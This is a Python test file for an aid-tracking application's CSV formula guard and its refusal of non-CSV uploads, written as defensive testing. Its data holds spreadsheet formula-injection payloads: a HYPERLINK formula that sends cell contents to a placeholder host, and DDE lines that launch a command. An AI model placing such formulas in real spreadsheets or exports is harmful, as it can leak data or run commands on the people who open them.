"""The CSV formula guard and the refusal of non-CSV imports (custodes.csvguard), and their round trips."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select

from custodes.aid.export import export_consignments
from custodes.aid.imports import import_file
from custodes.aid.store import consignments
from custodes.app import Custodes
from custodes.csvguard import guard_cell, refuse_non_csv, sniff_non_csv, unguard_cell
from custodes.errors import InputError
from custodes.incidents.acled import COLUMNS
from custodes.incidents.exchange import export_incidents, import_incidents
from custodes.incidents.sample import sample_rows
from custodes.incidents.store import incidents
from custodes.ledger.sequencer import journal
from custodes.settings import Settings

NASTY = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
         "\tTAB", "\rCR", "'=already", "''+two"]


@pytest.mark.parametrize("value", NASTY)
def test_text_that_a_spreadsheet_runs_is_quoted(value: str) -> None:
    assert guard_cell(value).startswith("'")
    assert unguard_cell(guard_cell(value)) == value


@pytest.mark.parametrize("value", ["-12.5", "3", "+4", "-1e-3", ".5", "", "plain", "a=b", "100%", "a|b", "'quoted"])
def test_numbers_and_harmless_text_are_left_alone(value: str) -> None:
    assert guard_cell(value) == value == unguard_cell(value)


def test_non_text_values_pass_through() -> None:
    assert guard_cell(None) is None and guard_cell(-3) == -3 and guard_cell(1.5) == 1.5


@given(st.text(max_size=12))
def test_unguard_undoes_guard_for_any_text(value: str) -> None:
    guarded = guard_cell(value)
    assert unguard_cell(guarded) == value
    assert guarded[:1] not in {"=", "+", "@", "\t", "\r"} or guarded == value == ""
    if guarded.startswith("-"):
        float(guarded)  # only a plain number may begin with a minus


@pytest.mark.parametrize(("head", "what"), [
    (b"PK\x03\x04\x14\x00", "ZIP"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00", "OLE"), (b"\x1f\x8b\x08\x00", "gzip"),
    (b"<?xml version='1.0'?>", "XML"), (b"\xef\xbb\xbf  \n<html>", "XML or HTML"), (b"\n\t<table>", "XML")])
def test_archives_spreadsheets_and_markup_are_not_csv(head: bytes, what: str) -> None:
    assert what in (sniff_non_csv(head) or "")
    with pytest.raises(InputError, match="not CSV; save the sheet as CSV"):
        refuse_non_csv(head, "upload.csv")


def test_csv_text_is_not_refused() -> None:
    assert sniff_non_csv(b"\xef\xbb\xbfid,date\n1,2") is None and sniff_non_csv(b"") is None


def _counts(app: Custodes) -> tuple[int, int]:
    with app.store.read() as conn:
        return (int(conn.execute(select(func.count()).select_from(incidents)).scalar_one()),
                int(conn.execute(select(func.count()).select_from(journal)).scalar_one()))


def test_an_xlsx_given_as_incidents_is_refused_before_any_parser(app: Custodes, tmp_path: Path) -> None:
    bomb = tmp_path / "incidents.csv"
    bomb.write_bytes(b"PK\x03\x04" + b"\x00" * 4096)  # a ZIP: libhxl would open it as a workbook
    before = _counts(app)
    for fmt in ("acled", "hxl"):
        with pytest.raises(InputError, match=r"incidents.csv.*a ZIP archive .*not CSV"):
            import_incidents(app.incidents, bomb, "i", fmt=fmt)
    for fmt in ("unrwa", "hxl"):
        with pytest.raises(InputError, match="not CSV"):
            import_file(app.store, "i", bomb, fmt)
    with pytest.raises(InputError, match="not CSV"):
        app.council.import_vetoes(bomb, actor="test")
    assert _counts(app) == before


def _write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(COLUMNS)
        w.writerows(rows)
    return path


def test_incident_export_is_guarded_and_reimports_to_the_same_hashes(app: Custodes, tmp_path: Path) -> None:
    rows = sample_rows(3, seed=5)
    rows[0][COLUMNS.index("notes")] = NASTY[0]
    rows[1][COLUMNS.index("notes")] = "@evil"
    rows[2][COLUMNS.index("actor1")] = "-Militia"
    rows[2][COLUMNS.index("notes")] = "''=two quotes"  # read as one guarded "'=two quotes"
    import_incidents(app.incidents, _write(tmp_path / "in.csv", rows), "i")
    with app.store.read() as conn:
        hashes = dict(conn.execute(select(incidents.c.id, incidents.c.row_hash)).all())
    assert app.incidents.get("SMP1")["notes"] == NASTY[0]  # stored as given
    for fmt in ("acled", "hxl"):
        out = io.StringIO()
        export_incidents(app.incidents, out, fmt=fmt)
        cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
        assert "'" + NASTY[0] in cells and "'@evil" in cells and "'-Militia" in cells
        assert "''=two quotes" in cells
        assert not [c for c in cells if c[:1] in "=+@\t\r" and c] and all(
            c[:1] != "-" or c.lstrip("-").replace(".", "", 1).isdigit() for c in cells)
        other = Custodes.open(Settings(data_dir=tmp_path / f"other-{fmt}"), create=True)
        other.init()
        path = tmp_path / f"export.{fmt}.csv"
        path.write_text(out.getvalue(), encoding="utf-8")
        assert import_incidents(other.incidents, path, "i", fmt=fmt).added == 3
        with other.store.read() as conn:
            assert dict(conn.execute(select(incidents.c.id, incidents.c.row_hash)).all()) == hashes
        assert other.incidents.get("SMP1")["notes"] == NASTY[0]
        assert other.incidents.get("SMP3")["notes"] == "'=two quotes"
        # and into the first mission: nothing changed
        assert import_incidents(app.incidents, path, "i", fmt=fmt).unchanged == 3


UNRWA_HEADER = ["id", "received_date", "quantity", "units", "crossing", "status", "cargo_category",
                "description_of_cargo", "donating_country_organization", "data_source",
                "destination_recipient_partner"]


def test_aid_export_is_guarded_and_reimports_to_the_same_hashes(app: Custodes, tmp_path: Path) -> None:
    src = tmp_path / "unrwa.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(UNRWA_HEADER)
        w.writerow(["1", "2026-01-02", "3", "Truck", "Kerem Shalom", "Received", "Food", "=cmd|'/C calc'!A0",
                    "+Donor", "@agency", "-dest"])
        w.writerow(["2", "2026-01-03", "12.5", "Tonnes", "Rafah", "Received", "Water", "plain", "Donor", "a", "b"])
    assert import_file(app.store, "i", src, "unrwa").added == 2
    with app.store.read() as conn:
        hashes = dict(conn.execute(select(consignments.c.source_ref, consignments.c.row_hash)).all())
    out = tmp_path / "export.csv"
    assert export_consignments(app.store, out, "hxl") == 2
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for c in row]
    assert {"'=cmd|'/C calc'!A0", "'+Donor", "'@agency", "'-dest", "12.5"} <= set(cells)
    other = Custodes.open(Settings(data_dir=tmp_path / "other"), create=True)
    other.init()
    assert import_file(other.store, "i", out, "hxl").added == 2
    with other.store.read() as conn:
        assert dict(conn.execute(select(consignments.c.source_ref, consignments.c.row_hash)).all()) == hashes
        assert conn.execute(select(consignments.c.description).where(
            consignments.c.source_ref == "1")).scalar_one() == "=cmd|'/C calc'!A0"
